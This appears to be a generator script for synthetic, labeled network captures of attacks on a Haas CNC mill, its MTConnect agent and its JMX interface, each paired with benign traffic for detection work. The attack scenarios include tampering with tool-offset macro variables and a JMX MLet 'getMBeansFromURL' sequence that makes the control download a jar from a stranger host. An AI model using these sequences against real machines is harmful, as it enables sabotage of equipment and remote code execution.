#!/usr/bin/env python3
"""haas_shop.py OUT: recordings of attacks on a Haas control (Q and E commands), its MTConnect agent and its Java management, each with
a twin of the same work done properly: OUT/NAME/capture.pcap and truth.json. Rows are those of the attack table. In each a MES
polls in the background; segments are cut and sent again. The "normal" recordings are the day before: nothing but normal work, to learn
from. Made from documents, not recorded: truth.json says so."""
import pathlib
import sys

import haas
import jrmp
import mtconnect
import wire

MES = wire.Host("00:50:56:00:00:10", "10.20.0.10")
DNC = wire.Host("00:50:56:00:00:11", "10.20.0.11")
PRESET = wire.Host("00:50:56:00:00:12", "10.20.0.12")
CELL = wire.Host("00:50:56:00:00:13", "10.20.0.13")		# the robot cell's controller
STRANGER = wire.Host("02:1c:7f:00:00:66", "10.20.0.66")
MILL = wire.Host("00:04:a3:00:00:40", "10.20.0.40")
AGENT = wire.Host("00:50:56:00:00:14", "10.20.0.14")

ROWS = []


def scenario(rows, kind, **setting):
    def add(f):
        ROWS.append((rows, kind, f.__name__.replace("_", "-"), f, setting))
        return f
    return add


def writer(capture, truth, host, pairs, **how):
    s = haas.Client(capture, host, truth.control, truth, 3, **how)
    for variable, value in pairs:
        s.write(variable, value, refused=700 <= variable < 750)
    s.close()


@scenario("", "normal")
def haas_normal(capture, truth):
    p = haas.Client(capture, PRESET, truth.control, truth, 3)
    for n in range(3):
        for variable, value in ((2001, 123.4), (2201, 0.01 + n / 100), (5601, 480 + 20 * n), (5901, 75 + 5 * n),
                                (5602, 400), (5902, 70)):
            p.write(variable, value)
    p.close()
    s = haas.Client(capture, CELL, truth.control, truth, 5, cut="random")
    s.query(104)
    for n in range(8):
        s.read(501)
        s.write(500, n % 5)
    s.close()
    s = haas.Client(capture, DNC, truth.control, truth, 7)
    s.query(500)
    s.read(3003, 3004)
    s.close()


@scenario("", "normal")
def mtconnect_normal(capture, truth):
    s = mtconnect.Client(capture, DNC, truth.agent, truth, 3, cut="random")
    s.get("/probe")
    s.get("/current?path=//Path")
    s.close()


@scenario("", "normal")
def jrmp_normal(capture, truth):
    jrmp_c1_benign(capture, truth)


@scenario("C6 C7", "attack", style="echo")
def haas_c6_c7_attack(capture, truth):
    writer(capture, truth, STRANGER, ((3003, 1), (3004, 1)), cut="random", how=str.lower)


@scenario("C6 C7", "benign", style="echo")
def haas_c6_c7_benign(capture, truth):
    s = haas.Client(capture, DNC, truth.control, truth, 3, cut="random")
    s.read(3003, 3004)
    s.close()


@scenario("C8 C10", "attack")
def haas_c8_c10_attack(capture, truth):
    p = haas.Client(capture, PRESET, truth.control, truth, 2.5)	# what the presetter set is what the stranger moves
    for variable, value in ((5601, 500), (5901, 80), (5602, 400), (5902, 70)):
        p.write(variable, value)
    p.close()
    writer(capture, truth, STRANGER, ((5601, 9999), (5901, 200), (5602, 0), (5902, 1)), again=0.2)


@scenario("C8", "attack")
def haas_c8_hijacked(capture, truth):
    writer(capture, truth, CELL, ((5601, 9999),))		# the cell controller, which has no business there


@scenario("C8 C10", "benign")
def haas_c8_c10_benign(capture, truth):
    writer(capture, truth, PRESET, ((5601, 500), (5901, 80)))


@scenario("C9", "attack", style="framed")
def haas_c9_attack(capture, truth):
    writer(capture, truth, STRANGER, ((2001, 118.4), (2201, -3.5), (2401, "12."), (2601, ".9"), (705, 1)), cut="bytes")


@scenario("C9", "attack")
def haas_c9_hijacked(capture, truth):
    writer(capture, truth, PRESET, ((2201, 0.018), (2201, 4.018)))		# the presetter itself, in other hands


@scenario("C9", "benign", style="framed")
def haas_c9_benign(capture, truth):
    writer(capture, truth, PRESET, ((2001, 123.41), (2201, 0.018)), cut="random")


@scenario("C11 C14", "attack", port=4001)
def haas_c11_c14_attack(capture, truth):
    writer(capture, truth, STRANGER, ((500, 99999999), (501, -1), (10900, 3)), how=lambda line: line.lstrip("?"))


@scenario("C11 C14", "attack")
def haas_c11_c14_hijacked(capture, truth):
    writer(capture, truth, CELL, ((500, 2), (500, 77)))		# the cell controller itself, in other hands


@scenario("C11 C14", "benign", port=4001)
def haas_c11_c14_benign(capture, truth):
    s = haas.Client(capture, CELL, truth.control, truth, 3, cut="random")
    for n in range(8):
        s.read(501)
        s.write(500, n % 4)
    s.close()


@scenario("C12", "attack")
def haas_c12_attack(capture, truth):
    writer(capture, truth, STRANGER, ((3000, 15), (3006, 1)))


@scenario("C12", "benign")
def haas_c12_benign(capture, truth):
    s = haas.Client(capture, CELL, truth.control, truth, 3)
    s.query(104)
    s.close()


@scenario("C16 C19", "attack", port=8082)
def haas_c16_c19_attack(capture, truth):
    s = haas.Client(capture, STRANGER, truth.control, truth, 3, cut="random")
    s.send("?Q100", "?Q101", "?Q102")		# several at once
    truth["reads"] += [{"actor": STRANGER.ip, "device": MILL.ip, "code": n} for n in (100, 101, 102)]
    s.query(104, 200, 201, 300, 301, 303, 304, 402, 403, 500)
    s.read(*range(2001, 2021), *range(5601, 5611))
    s.close()


@scenario("C16 C19", "benign", port=8082)
def haas_c16_c19_benign(capture, truth):
    s = haas.Client(capture, DNC, truth.control, truth, 3)
    s.query(500)
    s.close()


@scenario("C20", "attack")
def haas_c20_attack(capture, truth):
    s = haas.Client(capture, STRANGER, truth.control, truth, 2.5)
    for n in range(4):
        haas.turned_away(capture, DNC, truth.control, truth, 4 + n, word=n % 2 == 1)
    s.link.wait(60)
    s.close()


@scenario("C20", "benign")
def haas_c20_benign(capture, truth):
    s = haas.Client(capture, DNC, truth.control, truth, 3)
    s.query(500)
    s.close()


@scenario("C14 C19", "attack")
def mtconnect_c14_c19_attack(capture, truth):
    s = mtconnect.Client(capture, STRANGER, truth.agent, truth, 3, cut="random")
    s.put("/VF-2", execution="READY", program="O66666")
    s.get("/current")
    s.post("/asset/T5?device=VF-2&type=CuttingTool", "<CuttingTool assetId='T5'/>")
    s.put("/VF-2", refused=True, estop="ARMED")
    s.close()
    mtconnect.feed(capture, AGENT, STRANGER, 5, 6, truth, state="READY", cut="random")


@scenario("C14 C19", "benign")
def mtconnect_c14_c19_benign(capture, truth):
    s = mtconnect.Client(capture, DNC, truth.agent, truth, 3, cut="random")
    s.get("/current?path=//Path")
    s.close()


@scenario("C16", "attack")
def mtconnect_c16_attack(capture, truth):
    s = mtconnect.Client(capture, STRANGER, truth.agent, truth, 3, cut="random", again=0.1)
    for url in ("/probe", "/assets", "/VF-2/current", "/sample?from=1&count=1000"):
        s.get(url, chunked=url == "/probe")
    s.close()


@scenario("C16", "benign")
def mtconnect_c16_benign(capture, truth):
    s = mtconnect.Client(capture, DNC, truth.agent, truth, 3)
    s.get("/probe")
    s.close()


@scenario("C1", "attack")
def jrmp_c1_attack(capture, truth):
    first = jrmp.Client(capture, STRANGER, MILL, 1099, truth, 3, cut="random")
    first.lookup("jmxrmi", 40123)
    s = jrmp.Client(capture, STRANGER, MILL, 40123, truth, first.link.at, cut="random", again=0.1)
    s.jmx("newClient")
    truth["bare-logins"] += 1
    s.jmx("createMBean", jrmp.string("javax.management.loading.MLet") + jrmp.NULL * 2)
    s.jmx("invoke", jrmp.NULL + jrmp.string("getMBeansFromURL") + jrmp.strings("http://10.20.0.66/m.html") + jrmp.NULL * 2)
    truth["names"] += ["getMBeansFromURL", "javax.management.loading.MLet"]
    web = wire.Connection(capture, MILL, STRANGER, 80, s.link.at)		# the control fetches what it was told to
    web.say(True, b"GET /m.html HTTP/1.1\r\nHost: 10.20.0.66\r\nUser-Agent: Java/1.8.0\r\n\r\n")
    web.say(False, b"HTTP/1.1 200 OK\r\nContent-Length: 41\r\n\r\n<MLET CODE=Run ARCHIVE=run.jar NAME=a></>")
    web.close()
    s.jmx("close")
    s.close()
    first.close()


@scenario("C1", "benign")
def jrmp_c1_benign(capture, truth):
    first = jrmp.Client(capture, MES, MILL, 1099, truth, 3, cut="random")
    first.lookup("jmxrmi", 40123)
    s = jrmp.Client(capture, MES, MILL, 40123, truth, first.link.at)
    s.jmx("newClient", jrmp.strings("monitor", "geheimes-wort"))
    truth["secret"] = "geheimes-wort"
    for _ in range(5):
        s.jmx("getAttribute", jrmp.NULL + jrmp.string("HeapMemoryUsage") + jrmp.NULL)
        s.ping()
    s.jmx("close")
    s.close()
    first.close()


class Truth(dict):
    control = agent = None


def make(out, rows, kind, name, play, setting):
    capture = wire.Capture(name, **({"start": wire.START - 86400} if kind == "normal" else {}))
    truth = Truth(row=rows.split(), kind=kind, made="synthetic", writes=[], reads=[], copies=[], requests=[], puts=[], lines=[],
                  calls=[], names=[], **{"turned-away": [], "bare-logins": 0})
    truth.control = haas.Control(MILL, setting.get("port", 5051), setting.get("style", "prompt"))
    truth.agent = mtconnect.Agent(MILL)
    if name.startswith("mtconnect"):
        mes = mtconnect.Client(capture, MES, truth.agent, truth, 0, cut="random", again=0.02)
        mes.get("/probe")
        mtconnect.feed(capture, AGENT, MILL, 1, 12, truth, cut="random")
    else:
        mes = haas.Client(capture, MES, truth.control, truth, 0, cut="random", again=0.02)
        mes.query(100, 101, 102)
    if name.startswith("haas"):
        mes.poll(2)
        play(capture, truth)
        mes.link.at = max(mes.link.at, 8)
        mes.poll(4)
    else:
        mes.poll(8)
        play(capture, truth)
    mes.close()
    capture.keep(pathlib.Path(out) / name, truth)


if __name__ == "__main__":
    for r in ROWS:
        make(sys.argv[1], *r)
